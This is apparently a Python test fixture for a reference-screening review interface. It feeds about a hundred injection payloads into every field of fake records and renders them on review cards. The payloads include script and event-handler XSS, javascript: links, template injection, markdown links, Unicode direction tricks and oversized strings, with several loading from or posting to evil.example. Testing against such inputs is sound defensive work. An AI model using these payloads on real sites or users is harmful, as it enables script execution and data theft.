"""Records that would do harm where a page took them for more than text, and a card that shows them."""

import pandas as pd

from review.widgets import ConflictCard, ListCard

DO = "window.hacked=1"
PAYLOADS = [
    f"<script>{DO}</script>",
    f"<SCRIPT>{DO}</SCRIPT>",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"</script><script>{DO}</script>",
    f"<script src=data:text/javascript,{DO}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={DO}>",
    f"<img src=x onerror='{DO}'",
    f'"><img src=x onerror={DO}>',
    f"'><img src=x onerror={DO}>",
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{DO}"><text>x</text></a></svg>',
    f"<math><mtext><script>{DO}</script></mtext></math>",
    f"<body onload={DO}>",
    f"<iframe src=javascript:{DO}></iframe>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    f"<object data=javascript:{DO}></object>",
    "<embed src=https://evil.example/x.swf>",
    f"<video><source onerror={DO}></video>",
    f"<audio src=x onerror={DO}>",
    f"<details open ontoggle={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}>",
    f"<textarea autofocus onfocus={DO}>",
    f"<marquee onstart={DO}>",
    f"<div onmouseover={DO}>x</div>",
    f"<a href=javascript:{DO}>x</a>",
    f"<a href='&#106;avascript:{DO}'>x</a>",
    f"[x](javascript:{DO})",
    f"![x](javascript:{DO})",
    "![x](https://evil.example/pixel.png)",
    f"javascript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    "https://evil.example/",
    "<base href=https://evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>.review-card{display:none}</style>",
    "<form action=https://evil.example/><button>x</button></form>",
    f"<template><script>{DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    f"<!--><img src=x onerror={DO}>-->",
    f"<![CDATA[<script>{DO}</script>]]>",
    f"<?xml version='1.0'?><script>{DO}</script>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#60;/script&#62;",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{DO}')()}}}}",
    f"${{{DO}}}",
    f"{{% {DO} %}}",
    f"$\\href{{javascript:{DO}}}{{x}}$",
    "$$\\def\\x{\\x\\x}\\x$$",
    f"`;{DO};`",
    f"');{DO};//",
    f'");{DO};//',
    '=HYPERLINK("https://evil.example")',
    f"{{{{7*7}}}}{{{{config.__class__.__init__.__globals__}}}}{DO}",
    f"<%= {DO} %>",
    f"#{{{DO}}}",
    f"[[${{{DO}}}]]",
    f"{{{{{{{DO}}}}}}}",
    f"<div v-html=\"'<img src=x onerror={DO}>'\"></div>",
    f"<div ng-app ng-init={DO}></div>",
    f"JaVaScRiPt:{DO}",
    f"java\tscript:{DO}",
    f"\x01javascript:{DO}",
    f"javascript&colon;{DO}",
    f"<a href='  javascript:{DO}'>x</a>",
    f"<a href=vbscript:{DO}>x</a>",
    f"[x][1]\n\n[1]: javascript:{DO}",
    f"<svg/onload={DO}//",
    f"<img src=x oNeRrOr={DO}>",
    f"<img/src='x'/onerror={DO}>",
    f"<isindex formaction=javascript:{DO} type=submit>",
    f"<button formaction=javascript:{DO}>x</button>",
    f"<dialog open onclose={DO}>x</dialog>",
    f"<mark class=review-for onclick={DO}>x</mark>",
    "<section class=review-card data-key=stolen></section>",
    "</p></div></section></body></html>",
    "10.1136/x' onclick='window.hacked=1",
    "\u202etxt.exe",
    "\u202dleft\u202c",
    "\u2067right to left\u2069 \u200f\u200e\u061c",
    "\u05e9\u05dc\u05d5\u05dd \u202ereversed",
    "\ufeff\u200b\u200c\u200d\u2060nothing to see",
    "\U000e0041\U000e0042 tags",
    "\u2066\u202eturned\u2069",
    "\x00\x01\x1b[31mcontrol",
    "half a letter \ud800",
    "e" + "\u0301" * 5_000,
    "x" * 100_000,
    "word " * 20_000,
    "__proto__",
    "constructor",
]


def rows():
    """Return one reference per payload, which has it in every field."""
    fields = (
        "title",
        "abstract",
        "keywords",
        "authors",
        "journal",
        "doi",
        "pmid",
        "language",
        "databases",
        "year",
    )
    return [
        {"reference_id": f"r{place}", "rank": place + 1, "score": 0.0, "drawn": "ranked"}
        | dict.fromkeys(fields, text)
        for place, text in enumerate(PAYLOADS)
    ]


class Desk:
    """Shows the payloads one after the other and keeps decisions in a list."""

    def __init__(self):
        self.rows, self.stored = rows(), []
        self.asked = False

    def fetch(self, n):
        """Return the next ones."""
        left = self.rows[len(self.stored) :]
        return {"rows": left[:n], "waiting": [row["reference_id"] for row in left]}

    def news(self):
        """Return that nothing was decided before."""
        first, self.asked = not self.asked, True
        return [] if first else None

    def decide(self, row):
        """Keep a decision."""
        self.stored.append(row)
        return str(len(self.stored))

    def lookup(self, name):
        """Return one of them."""
        return next(row for row in self.rows if row["reference_id"] == name)

    def decide_all(self, rows):
        """Keep several decisions."""
        return [self.decide(row) for row in rows]

    def parked(self):
        """Return that nothing is put aside."""
        return []

    def standing(self):
        """Return that there is nothing to tell."""

    def similar(self, name):
        """Return its payload as a title alike."""
        text = self.lookup(name)["title"]
        return [{"title": text, "decision": "exclude", "similarity": 0.5, "words": text}]

    def judges(self, name):
        """Return two readers whose notes, and names, are its payload."""
        text = self.lookup(name)["title"]
        said = {"reader": text, "decision": "include", "reason": "", "note": text}
        return [said | {"low_value_care": None, "de_implementation": True}] * 2

    def explain(self, name):
        """Return its payload as a word that raised and one that lowered it."""
        return pd.DataFrame({"word": [self.lookup(name)["title"]] * 2, "weight": [1, -1]})


def card(kind=ConflictCard):
    """Return a card of all payloads, with some in the project's own words too."""
    texts = PAYLOADS[:3]
    words = {"for": ["script", *texts], "against": ["img", "("]}
    reasons = ["wrong_population", *texts]
    if kind is ListCard:
        return ListCard(Desk(), highlight=words, reasons=reasons, size=len(PAYLOADS), language="en")
    criteria = {"include": texts, "exclude": texts}
    return kind(Desk(), criteria=criteria, highlight=words, reasons=reasons, language="en")
